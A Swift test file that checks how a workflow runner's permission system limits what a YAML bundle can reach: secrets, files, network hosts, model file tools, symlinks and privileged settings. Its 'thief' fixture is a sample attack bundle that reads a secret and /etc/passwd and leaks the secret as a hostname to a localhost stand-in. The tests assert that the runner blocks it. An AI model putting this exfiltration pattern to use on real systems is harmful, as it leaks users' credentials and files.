import FileKit
import Glibc
import JSON
import Testing

@Suite("What a bundle reaches", .timeLimit(.minutes(5)))
struct RunnerReachTests {
    /// Takes a secret and sends it off as a part of a name.
    private static let thief = """
        name: thief
        env: {key: {secret: demo}}
        steps:
          - {id: key, action: auth.secret.get, with: {name: demo}}
          - {id: users, action: file.read, with: {path: /etc/passwd}}
          - {id: away, action: gateway.status, with: {address: "http://${{ replace(steps.key.result, '-', 'x') }}.localhost:1"}}
        """

    // finding R.B4
    @Test("is no secret and no file elsewhere, and the check says the lines that would change that") func thief()
        async throws
    {
        try await RunnerHome.with { home in
            try home.write(Self.thief)
            let refused = try await home.martlet("run", "b.yaml", adding: ["DEMO_API_KEY": "very-secret-4711"])
            #expect(refused.code == 2 && refused.output == "")
            let lines = refused.errors.lines
            #expect(lines.count == 3, "\(refused.errors)")
            #expect(lines.count { $0.hasSuffix("add secrets: [\"demo\"] to permissions") } == 2)
            #expect(
                lines.last?.hasSuffix("may not read /etc/passwd; add paths: [., \"/etc\"] to permissions") == true)
        }
    }

    @Test("is, with these lines, what they say, and still no server that nobody has set up") func permitted()
        async throws
    {
        try await RunnerHome.with { home in
            try home.write(Self.thief + "\npermissions: {secrets: [demo], paths: [., /etc]}")
            let run = try await home.martlet("run", "b.yaml", "--json", adding: ["DEMO_API_KEY": "very-secret-4711"])
            let steps = try run.output.json()["steps"]
            #expect(steps?[1]?["status"] == "ok" && steps?[2]?["status"] == "failed", "\(run.output)")
            let refusal = steps?[2]?["error"]?["message"]?.string ?? ""
            #expect(
                refusal.contains("may not speak to veryxsecretx4711.localhost:1; add hosts: [set-up, "), "\(refusal)")
            // The control: where the server is named, it is asked, and does not answer.
            try home.write(Self.thief + "\npermissions: {secrets: [demo], paths: [., /etc], hosts: ['*.localhost']}")
            let named = try await home.martlet("run", "b.yaml", "--json", adding: ["DEMO_API_KEY": "very-secret-4711"])
            let reason = try named.output.json()["steps"]?[2]?["error"]?["message"]?.string ?? ""
            #expect(!reason.isEmpty && !reason.contains("may not speak"), "\(reason)")
        }
    }

    @Test("is no file for the model that a step asks, whatever mode the step names, unless it permits tools")
    func mode()
        async throws
    {
        try await RunnerHome.with { home in
            let step = """
                steps:
                  - action: chat.send
                    with: {message: 'replace "the" by "a" in README.md', model: martlet, mode: full}
                """
            // A home is no folder that a model works in.
            let alone = ["OLLAMA_HOST": "http://127.0.0.1:1", "HOME": home.top]
            try home.write("the end\n", "README.md")
            try home.write("name: b\npermissions: {effects: writes}\n\(step)\n")
            let refused = try await home.martlet("run", "b.yaml", adding: alone)
            #expect(refused.code == 6 && refused.output.contains("nobody was there to approve"), "\(refused.output)")
            #expect(try home.read("README.md") == "the end\n")
            try home.write("name: b\npermissions: {effects: writes, tools: [\"files/*\"]}\n\(step)\n")
            let permitted = try await home.martlet("run", "b.yaml", adding: alone)
            #expect(permitted.code == 0, "\(permitted.output)")
            #expect(try home.read("README.md") == "a end\n")
        }
    }

    @Test("is the project's folder for a project's bundle, wherever it is started") func project() async throws {
        try await RunnerHome.with { home in
            try home.write("inside", "project/notes.txt")
            try home.write("outside", "outside.txt")
            try #require(unsafe symlink("../outside.txt", "\(home.path)/project/link.txt") == 0)
            let folder = "\(home.path)/project"
            for (file, code) in [("notes.txt", nil), ("../outside.txt", "access.denied"), ("link.txt", "file.denied")] {
                try home.write(
                    "name: b\nsteps: [{action: file.read, with: {path: \"${{ '\(folder)' }}/\(file)\"}}]",
                    "project/.martlet/bundles/b.yaml")
                let run = try await home.martlet("run", "project/.martlet/bundles/b.yaml", "--json")
                let step = try run.output.json()["steps"]?[0]
                #expect(step?["error"]?["code"]?.string == code, "\(file): \(run.output)\(run.errors)")
                #expect((run.code == 0) == (code == nil))
            }
        }
    }

    @Test("is no tool for a model in a folder that holds what Martlet keeps, and no file of it") func own() async throws
    {
        try await RunnerHome.with { home in
            let ask = """
                {action: chat.send, with: {message: "Read `a.txt`", model: martlet/martlet-offline, no-save: true}}
                """
            try home.write("inside", "a.txt")
            try home.write("name: b\npermissions: {actions: [chat.send]}\nsteps: [\(ask)]")
            let inside = try await home.martlet("run", "b.yaml", "--json")
            #expect(inside.code == 0 && inside.output.contains("inside"), "\(inside.output)\(inside.errors)")
            let above = try await Program.martlet.run(
                ["run", "work/b.yaml", "--json"], home: home.top, adding: home.variables)
            #expect(above.code == 2 && above.output.contains("which holds files of this program"), "\(above.output)")
            try home.write(
                "name: b\nsteps: [{action: file.read, with: {path: \"${{ 'martlet' }}/config/config.json\"}}]")
            let read = try await Program.martlet.run(
                ["run", "work/b.yaml", "--json"], home: home.top, adding: home.variables)
            #expect(read.output.contains("access.denied"), "\(read.output)")
        }
    }

    // finding R.B4, and what an attack found: trust and settings are not a matter of effects.
    @Test("is no setting, trust or token, unless it names what changes them") func rights() async throws {
        try await RunnerHome.with { home in
            for action in ["config.trust", "gateway.token.show", "auth.secret.lock"] {
                try home.write(
                    "name: b\npermissions: {effects: destroys, actions: ['*']}\nsteps: [{action: \(action)}]")
                let run = try await home.martlet("run", "b.yaml", "--check")
                #expect((run.code == 2) == (action != "auth.secret.lock"), "\(action): \(run.errors)")
                if run.code == 2 {
                    #expect(run.errors.contains("add \"\(action)\" to permissions.actions"), "\(run.errors)")
                }
            }
        }
    }

    @Test("stands in the plan and in the check") func shown() async throws {
        try await RunnerHome.with { home in
            try home.write(
                "{name: b, permissions: {actions: [file.write], secrets: [demo], hosts: [lab.local]}, steps: [{action: version}]}"
            )
            for option in ["--plan", "--check"] {
                let shown = try await home.martlet("run", "b.yaml", option)
                let words = shown.output.lines.map { $0.split(separator: " ").joined(separator: " ") }
                for line in [
                    "it may do what reads, and file.write", "servers lab.local", "files beneath \(home.path)",
                    "secrets demo",
                    "tools unasked none",
                ] {
                    #expect(words.contains(line), "\(option): \(shown.output)")
                }
                #expect(
                    try await home.martlet("run", "b.yaml", option, "--format", "ndjson").output.contains("\"reach\":"))
            }
        }
    }
}
